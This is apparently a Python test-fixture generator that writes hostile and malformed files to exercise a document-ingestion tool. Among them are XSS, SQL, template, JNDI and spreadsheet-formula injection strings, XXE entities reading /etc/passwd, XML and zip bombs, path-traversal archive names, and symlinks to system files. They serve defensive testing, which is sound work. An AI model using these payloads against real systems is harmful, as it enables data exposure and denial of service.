"""Hostile and broken files, several hundred of them, the same for the same seed.

Each family is a generator of names and bytes; `write` puts them all into a folder, with what only a file system can
hold (pipes, links, names that are no text). All people and places in them are invented.
"""

from __future__ import annotations

import base64
import io
import os
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path

File = tuple[str, bytes]

ENGLISH = (
    "The harbour master of Selby Quay said on 3 May 1994 that the gates had been locked since March. "
    "“Nobody was sorted before the twelfth of April,” he told the Quay Courier.\n\n"
    "Two dockers remember it otherwise: the lists, they say, were read out in early March.\n"
)
PERSIAN = (
    "رئیس بندر گفت دروازه‌ها از اسفند ۱۳۷۲ بسته بود. «هیچ‌کس را پیش از فروردین جدا نکردند.»\n\n"
    "دو کارگر جز این به یاد دارند.\n"
)
EXTENSIONS = ("txt", "md", "html", "docx", "pdf", "eml", "zip", "odt", "png", "json", "xml", "bin", "")


def write(folder: Path, seed: int = 1) -> list[str]:
    """Write every file below `folder`; returns their names, relative to it, as Govah shows them."""
    names = []
    for family in FAMILIES:
        for name, data in family(random.Random(f"{seed} {family.__name__}")):
            path = folder / family.__name__ / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(data)
            names.append(f"{family.__name__}/{name}")
    return names + _odd_places(folder / "places")


# --- Whole files, from which the broken ones are made -----------------------------------------------------------------


def page(body: str, head: str = "") -> bytes:
    return f"<!doctype html><html><head><title>Quay Courier</title>{head}</head><body>{body}</body></html>".encode()


def pdf(
    content: bytes = b"BT /F1 12 Tf 72 700 Td (The gates were locked since March 1994.) Tj ET", **parts: bytes
) -> bytes:
    """A one-page PDF; `parts` put other bytes in the place of an object's or add to the trailer."""
    objects = {
        "catalog": b"<</Type/Catalog/Pages 2 0 R>>",
        "pages": b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        "leaf": b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>",
        "stream": b"<</Length %d>>stream\n%s\nendstream" % (len(content), content),
        "font": b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    }
    trailer = parts.pop("trailer", b"")
    out, places = io.BytesIO(), []
    out.write(b"%PDF-1.4\n")
    for number, data in enumerate((objects | parts).values(), start=1):
        places.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, data))
    start = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(places) + 1))
    out.write(b"".join(b"%010d 00000 n \n" % place for place in places))
    out.write(b"trailer<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (len(places) + 1, trailer, start))
    return out.getvalue()


def archive(files: list[File], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as target:
        for name, data in files:
            target.writestr(zipfile.ZipInfo(name, (1994, 5, 3, 0, 0, 0)), data, method)
    return out.getvalue()


_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def docx(body: str = "", before: str = "") -> bytes:
    """A DOCX; `body` stands in the place of its paragraphs, `before` ahead of its root element."""
    text = body or "".join(f"<w:p><w:r><w:t>{line}</w:t></w:r></w:p>" for line in ENGLISH.split("\n"))
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"
    types = "http://schemas.openxmlformats.org/package/2006/content-types"
    main = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    relations = "http://schemas.openxmlformats.org/package/2006/relationships"
    listed = (
        f'<Types xmlns="{types}"><Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Override PartName="/word/document.xml" ContentType="{main}"/></Types>'
    )
    related = (
        f'<Relationships xmlns="{relations}">'
        f'<Relationship Id="r1" Type="{office}" Target="word/document.xml"/></Relationships>'
    )
    document = f'<?xml version="1.0"?>{before}<w:document {_W}><w:body>{text}</w:body></w:document>'
    files = {"[Content_Types].xml": listed, "_rels/.rels": related, "word/document.xml": document}
    return archive([(name, data.encode()) for name, data in files.items()])


def mail(body: str = ENGLISH, attached: list[File] | None = None, head: str = "") -> bytes:
    parts = [("text/plain; charset=utf-8", base64.encodebytes(body.encode()))]
    parts += [(f'application/octet-stream; name="{n}"', base64.encodebytes(d)) for n, d in attached or []]
    lines = b"".join(
        b"--=b=\r\nContent-Type: %s\r\nContent-Transfer-Encoding: base64\r\n\r\n%s" % (kind.encode(), data)
        for kind, data in parts
    )
    top = (
        "From: Ida Quist <ida@quay.example>\r\nTo: archive@quay.example\r\nSubject: The gates\r\n"
        f"Date: Tue, 3 May 1994 10:00:00 +0000\r\nMessage-ID: <1@quay.example>\r\nMIME-Version: 1.0\r\n{head}"
    )
    return top.encode() + b'Content-Type: multipart/mixed; boundary="=b="\r\n\r\n' + lines + b"--=b=--\r\n"


def whole() -> dict[str, bytes]:
    """One good file of each format."""
    return {
        "txt": ENGLISH.encode(),
        "md": f"# The gates\n\n{ENGLISH}\n> said, *not* written\n".encode(),
        "html": page("".join(f"<p>{line}</p>" for line in ENGLISH.split("\n"))),
        "docx": docx(),
        "pdf": pdf(),
        "eml": mail(attached=[("list.txt", PERSIAN.encode())]),
        "zip": archive([("a.txt", ENGLISH.encode()), ("inner/b.html", page("<p>b</p>"))]),
    }


# --- Families ---------------------------------------------------------------------------------------------------------


def damaged(chance: random.Random) -> Iterator[File]:
    for kind, data in whole().items():
        for share in (0.05, 0.3, 0.6, 0.9, 0.99):
            yield f"cut-{share}.{kind}", data[: int(len(data) * share)]
        for number in range(6):
            yield f"flipped-{number}.{kind}", _flipped(data, chance, 1 + 4 * number)
        middle, piece = len(data) // 2, len(data) // 8
        yield f"hole.{kind}", data[:middle] + data[middle + piece :]
        yield f"zeros.{kind}", data[:middle] + bytes(piece) + data[middle + piece :]
        yield f"twice.{kind}", data + data
        yield f"headless.{kind}", data[64:]
        yield f"backwards.{kind}", data[::-1]
        yield f"tail.{kind}", data + chance.randbytes(5000)
        yield f"prefix.{kind}", chance.randbytes(300) + data


def mislabelled(_: random.Random) -> Iterator[File]:
    signed = {
        "png": b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + bytes(40),
        "jpeg": b"\xff\xd8\xff\xe0\0\x10JFIF" + bytes(60),
        "elf": b"\x7fELF\x02\x01\x01" + bytes(100),
        "exe": b"MZ\x90\0" + bytes(100),
        "ole": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
        "rtf": rb"{\rtf1\ansi The gates were locked.}",
        "gzip": b"\x1f\x8b\x08\0" + zlib.compress(ENGLISH.encode()),
        "sqlite": b"SQLite format 3\0" + bytes(100),
    }
    for kind, data in (whole() | signed).items():
        for extension in ("txt", "html", "docx", "pdf", "eml", ""):
            if extension != kind:
                yield f"{kind}-as.{extension}".rstrip("."), data


def noise(chance: random.Random) -> Iterator[File]:
    for extension in EXTENSIONS:
        yield f"random.{extension}", chance.randbytes(chance.randrange(1, 60_000))
        letters = "".join(chance.choices("<>&;\"'/=- \n\t\0aé\u202eم\U0001f5ff[](){}*_`#", k=5000))
        yield f"letters.{extension}", letters.encode()


def nothing(_: random.Random) -> Iterator[File]:
    for extension in EXTENSIONS:
        yield f"empty.{extension}", b""
    blanks = {"spaces": b" " * 999, "lines": b"\r\n" * 99, "nulls": bytes(4096), "mark": b"\xef\xbb\xbf"}
    for name, data in blanks.items():
        for extension in ("txt", "html", "eml", "docx"):
            yield f"{name}.{extension}", data
    yield "no-words.html", page("<script>1</script><style>p{}</style><!-- nothing -->")
    yield "no-words.docx", docx("<w:p/>")
    yield "no-words.pdf", pdf(b"")
    yield "no-files.zip", archive([])


def encoded(_: random.Random) -> Iterator[File]:
    for encoding in ("utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-le", "utf-32-be", "utf-7"):
        yield f"english-{encoding}.txt", ENGLISH.encode(encoding)
        yield f"persian-{encoding}.txt", PERSIAN.encode(encoding)
    for encoding in ("cp1252", "latin-1", "mac_roman", "cp037"):
        yield f"english-{encoding}.txt", ENGLISH.replace("“", '"').replace("”", '"').encode(encoding, "replace")
    yield "persian-windows-1256.txt", PERSIAN.encode("cp1256", "replace")
    yield "persian-windows-1256.html", page(f"<p>{PERSIAN}</p>").decode().encode("cp1256", "replace")
    yield "liar.html", page(f"<p>{PERSIAN}</p>", '<meta charset="shift_jis">')
    yield "unknown.html", page(f"<p>{ENGLISH}</p>", '<meta charset="no-such-thing">')
    yield "surrogates.txt", ENGLISH.encode() + b"\xed\xa0\x80\xed\xb0\x80 \xc0\xaf \xf8\x88\x80\x80\x80" * 30
    yield "nulls.txt", ENGLISH.replace(" ", " \0").encode()
    yield "controls.txt", ENGLISH.encode() + bytes(range(32)) * 3
    yield "half.txt", ENGLISH.encode("utf-16")[:-1]


def huge(_: random.Random) -> Iterator[File]:
    yield "one-line.txt", ENGLISH.replace("\n", " ").encode() * 20_000
    yield "one-word.txt", b"a" * 3_000_000
    yield "too-long.txt", ENGLISH.encode() * 80_000
    yield "too-long.html", page(f"<p>{ENGLISH}</p>" * 80_000)
    yield "lines.txt", b"so it was\n" * 50_000
    for depth in (1_000, 10_000, 100_000):
        yield f"deep-{depth}.html", page("<div>" * depth + ENGLISH + "</div>" * depth)
    yield "unclosed.html", page("<b><i><p>" * 10_000 + ENGLISH)
    yield "table.html", page("<table><tr><td>" * 3_000 + ENGLISH)
    yield "attribute.html", page(f'<p title="{"x" * 3_000_000}">{ENGLISH}</p>')
    yield "attributes.html", page(f"<p {' '.join(f'a{n}=1' for n in range(50_000))}>{ENGLISH}</p>")
    yield "entities.html", page("<p>" + "&amp;&#x202e;&bogus;" * 50_000 + "</p>")
    yield "comment.html", page("<!--" + "-" * 1_000_000 + f"<p>{ENGLISH}</p>")
    yield "quotes.md", b">" * 20_000 + ENGLISH.encode()
    yield "brackets.md", b"[" * 50_000 + b"](" * 50_000
    yield "stars.md", b"*_" * 100_000 + ENGLISH.encode()
    yield "emphasis.md", b"a**" * 60_000
    yield "spaces.txt", b" " * 2_000_000 + b"x"
    yield "header.eml", mail(head=f"X-Long: {'y ' * 500_000}\r\n")
    yield "headers.eml", mail(head="Received: by quay\r\n" * 50_000)


def scripted(_: random.Random) -> Iterator[File]:
    acts = {
        "script": "<script>alert(1)</script>",
        "end-script": "</script><script>alert(1)</script>",
        "end-style": "</style></title></textarea><img src=x onerror=alert(1)>",
        "link": '<a href="javascript:alert(1)">the list</a> <a href="data:text/html,<script>1</script>">x</a>',
        "load": '<svg onload=alert(1)><iframe src="file:///etc/passwd"></iframe><object data="x.swf"></object>',
        "refresh": '<meta http-equiv="refresh" content="0;url=//far.example"><base href="//far.example/">',
        "comment": "<!--<script>--><![CDATA[<script>alert(1)</script>]]><?php system('id') ?>",
        "template": "{{ 7*7 }}{% include '/etc/passwd' %}${jndi:ldap://far.example}%s%n{0.__class__}",
        "formula": "=cmd|' /C calc'!A0\n+1\n@SUM(1)",
        "terminal": "\x1b[2J\x1b]0;owned\x07 the gates",
        "bidi": "The \u202edekcol\u202c gates \u2066were\u2069 \u200f\u200elocked \u061c",
        "hidden": "The ga\u200btes\u2060 we\u00adre\ufeff lo\U000e0041cked",
        "stacked": "g" + "\u0301\u0336" * 5_000 + "ates",
        "outside": "\U0010ffff\ufffe\ufdd0 \U0001f468\u200d\U0001f469 \ue000 the gates",
        "sql": "'); DROP TABLE statements; --",
    }
    for name, act in acts.items():
        yield f"{name}.txt", (act + "\n\n" + ENGLISH).encode()
        yield f"{name}.html", page(f"<p>{act}</p><p>{ENGLISH}</p>", f'<meta name="author" content="{act[:80]}">')
        yield f"{name}.eml", mail(act + "\n\n" + ENGLISH, head=f"X-Note: {act.splitlines()[0].encode()!r}\r\n")
    for name in ("script", "end-script", "bidi", "template"):
        yield f"{name}.zip", archive([(f"{acts[name][:40]}.txt", ENGLISH.encode())])


def archives(_: random.Random) -> Iterator[File]:
    text = ENGLISH.encode()
    yield "ratio.zip", archive([("zeros.txt", bytes(100_000_000)), ("after.txt", text)])
    yield "many.zip", archive([(f"{n}.txt", b"") for n in range(20_000)], zipfile.ZIP_STORED)
    deep = text
    for level in range(12):
        deep = archive([(f"{level}.zip", deep), (f"{level}.txt", text)])
    yield "nested.zip", deep
    wide = archive([("a.txt", text)])
    for _level in range(5):
        wide = archive([(f"{n}.zip", wide) for n in range(12)])
    yield "tree.zip", wide
    yield "overlapping.zip", _overlapping(200)
    yield (
        "traversal.zip",
        archive([(n, text) for n in ("../../up.txt", "/etc/passwd", "C:\\x.txt", "..\\..\\y", "a/../b")]),
    )
    yield "same-names.zip", _same_names()
    yield "names.zip", archive([(n, text) for n in ("a\nb.txt", "\u202etxt.exe", "x" * 5_000, "نامه.txt", ".DS_Store")])
    yield "folders.zip", archive([("d/" * 300, b""), ("__MACOSX/._a", b"x")])
    yield "locked.zip", _with_flag(archive([("a.txt", text), ("b.txt", text)]), 1)
    yield "method.zip", archive([("a.txt", text)]).replace(b"\x08\x00", b"\x63\x00")
    yield "lying.zip", archive([("a.txt", text)]).replace(struct.pack("<L", len(text)), struct.pack("<L", 10))
    yield "links.zip", _linked()
    yield "lzma.zip", archive([("a.txt", text)], zipfile.ZIP_LZMA)
    yield "bzip2.zip", archive([("a.txt", text)], zipfile.ZIP_BZIP2)
    yield "of-all.zip", archive([(f"inner.{kind}", data) for kind, data in whole().items()])
    yield "end-only.zip", b"PK\x05\x06" + bytes(18)
    yield "count.zip", b"PK\x05\x06" + bytes(4) + b"\xff" * 12 + bytes(2)


def documents(_: random.Random) -> Iterator[File]:
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    uses = "<w:p><w:r><w:t>&l9;</w:t></w:r></w:p>"
    yield "laughs.docx", docx(uses, f'<!DOCTYPE d [<!ENTITY l0 "ha">{laughs}]>')
    yield "square.docx", docx(uses.replace("l9", "q") * 3000, f'<!DOCTYPE d [<!ENTITY q "{"q" * 50_000}">]>')
    for target in ("file:///etc/passwd", "http://127.0.0.1:9/x", "file:///dev/zero"):
        entity = f'<!DOCTYPE d [<!ENTITY x SYSTEM "{target}">]>'
        yield f"outside-{len(target)}.docx", docx(uses.replace("l9", "x"), entity)
    yield "deep.docx", docx("<w:p>" * 20_000 + "</w:p>" * 20_000)
    yield "wide.docx", docx("<w:p><w:r><w:t>so it was</w:t></w:r></w:p>" * 10_000)
    yield "bomb.docx", docx(f"<w:p><w:r><w:t>{'x' * 60_000_000}</w:t></w:r></w:p>")
    yield "no-root.docx", archive([("[Content_Types].xml", b"<Types/>"), ("word/document.xml", b"")])
    yield "no-types.docx", archive([("word/document.xml", b"<a/>")])
    yield "locked.docx", _with_flag(docx(), 1)
    yield "laughs.html", b'<!DOCTYPE d [<!ENTITY l0 "ha">' + laughs.encode() + b"]><html><body><p>&l9;</p>"
    yield "laughs.xml", b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY l0 "ha">' + laughs.encode() + b"]><d>&l9;</d>"
    yield (
        "locked.pdf",
        pdf(
            trailer=b"/Encrypt<</Filter/Standard/V 1/R 2/O("
            + b"o" * 32
            + b")/U("
            + b"u" * 32
            + b")/P -4>>/ID[<00><00>]"
        ),
    )
    yield "loop.pdf", pdf(pages=b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>")
    yield "pages.pdf", pdf(pages=b"<</Type/Pages/Kids[3 0 R]/Count 2000000000>>")
    yield "same-page.pdf", pdf(pages=b"<</Type/Pages/Kids[" + b"3 0 R " * 5_000 + b"]/Count 5000>>")
    yield "deep.pdf", pdf(font=b"[" * 100_000 + b"]" * 100_000)
    squeezed = zlib.compress(b"BT /F1 12 Tf (x) Tj ET\n" * 5_000_000, 9)
    yield "bomb.pdf", pdf(stream=b"<</Length %d/Filter/FlateDecode>>stream\n%s\nendstream" % (len(squeezed), squeezed))
    yield "acts.pdf", pdf(catalog=b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>")
    yield "self.pdf", pdf(stream=b"<</Length 4 0 R>>stream\nBT ET\nendstream")
    yield "persian.pdf", pdf(f"BT /F1 12 Tf ({PERSIAN}) Tj ET".encode())


def mails(_: random.Random) -> Iterator[File]:
    top = b"From: a@quay.example\nTo: b@quay.example\nSubject: x\nMessage-ID: <2@quay.example>\nMIME-Version: 1.0\n"
    deep = b"".join(b'Content-Type: multipart/mixed; boundary="%d"\n\n--%d\n' % (n, n) for n in range(3_000))
    yield "nested.eml", top + deep + b"\nthe gates\n"
    forwarded = b"the gates\n"
    for _level in range(60):
        forwarded = top + b"Content-Type: message/rfc822\n\n" + forwarded
    yield "forwarded.eml", forwarded
    yield "parts.eml", top + b"Content-Type: multipart/mixed; boundary=x\n\n" + b"--x\n\nso it was\n" * 15_000
    yield "no-end.eml", mail(attached=[("a.txt", ENGLISH.encode())])[:-40]
    yield "no-boundary.eml", top + b"Content-Type: multipart/mixed\n\n--x\n\nthe gates\n"
    yield "bad-base64.eml", mail().replace(b"base64\r\n\r\n", b"base64\r\n\r\n!!%%")
    yield "bad-charset.eml", top + b"Content-Type: text/plain; charset=nonsense-9\n\nthe gates\n"
    yield "bad-type.eml", top + b"Content-Type: ;;;/=?\nContent-Transfer-Encoding: \xff\n\nthe gates\n"
    yield "bad-words.eml", top.replace(b"x\n", b"=?utf-8?b?////?= =?x?q?=zz?=\n", 1) + b"\nthe gates\n"
    yield "bad-date.eml", top + b"Date: Tue, 99 Foo 99999999999 25:61:61 +9999\n\nthe gates\n"
    yield "raw-bytes.eml", top + b"X-\xff\xfe: \x80\x81\n\n\xd9\x85 \xff the gates\n"
    yield (
        "names.eml",
        mail(attached=[(n, ENGLISH.encode()) for n in ("../../x.txt", "", "=?utf-8?b?4oCu?=", "a/b.zip")]),
    )
    yield "bomb.eml", mail(attached=[("bomb.zip", archive([("zeros.txt", bytes(50_000_000))]))])
    yield "only-picture.eml", top + b"Content-Type: image/png\nContent-Transfer-Encoding: base64\n\niVBORw0KGgo=\n"


FAMILIES: tuple[Callable[[random.Random], Iterator[File]], ...] = (
    damaged,
    mislabelled,
    noise,
    nothing,
    encoded,
    huge,
    scripted,
    archives,
    documents,
    mails,
)


def _flipped(data: bytes, chance: random.Random, times: int) -> bytes:
    changed = bytearray(data)
    for _ in range(times):
        changed[chance.randrange(len(changed))] ^= 1 << chance.randrange(8)
    return bytes(changed)


def _with_flag(data: bytes, flag: int) -> bytes:
    """The archive, with a flag set on every member, in both places where it stands."""
    changed = bytearray(data)
    for sign, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = data.find(sign)
        while place >= 0:
            changed[place + offset] |= flag
            place = data.find(sign, place + 1)
    return bytes(changed)


def _overlapping(times: int) -> bytes:
    """Many entries of the list of contents that all name the same bytes (after Fifield 2019)."""
    one = archive([("0.txt", bytes(1_000_000))])
    listed_at, end_at = one.find(b"PK\x01\x02"), one.find(b"PK\x05\x06")
    entry = one[listed_at:end_at]
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, times, times, len(entry) * times, listed_at, 0)
    return one[:listed_at] + entry * times + end


def _same_names() -> bytes:
    names = archive([("a.txt", b"one"), ("b.txt", b"two"), ("a_txt", b"three")], zipfile.ZIP_STORED)
    return names.replace(b"b.txt", b"a.txt").replace(b"a_txt", b"a.txt")


def _linked() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        link = zipfile.ZipInfo("link.txt", (1994, 5, 3, 0, 0, 0))
        link.create_system, link.external_attr = 3, 0o120777 << 16
        target.writestr(link, "/etc/passwd")
    return out.getvalue()


def _odd_places(folder: Path) -> list[str]:
    folder.mkdir()
    os.mkfifo(folder / "pipe.txt")
    (folder / "gone.txt").symlink_to("nowhere.txt")
    (folder / "loop.txt").symlink_to("loop.txt")
    (folder / "round").symlink_to("..", target_is_directory=True)
    (folder / "outside.txt").symlink_to("/etc/passwd")
    (folder / ("n" * 251 + ".txt")).write_text(ENGLISH)
    (folder / "Thumbs.db").write_text("x")
    strange = {b"caf\xe9.txt": r"caf\xe9.txt", b"two\nlines.txt": r"two\x0alines.txt", b"-rf": "-rf"}
    strange |= {
        "\u202etxt.exe".encode(): r"\u202etxt.exe",
        b"<script>.txt": "<script>.txt",
        b"%s {0}.txt": "%s {0}.txt",
    }
    for name in strange:
        (folder / os.fsdecode(name)).write_text(ENGLISH)
    deep = folder.joinpath(*["d"] * 400)
    deep.mkdir(parents=True)
    (deep / "deep.txt").write_text(ENGLISH)
    plain = ["pipe.txt", "gone.txt", "loop.txt", "round", "outside.txt", "n" * 251 + ".txt", "Thumbs.db"]
    return [f"places/{name}" for name in (*plain, *strange.values(), "d/" * 400 + "deep.txt")]
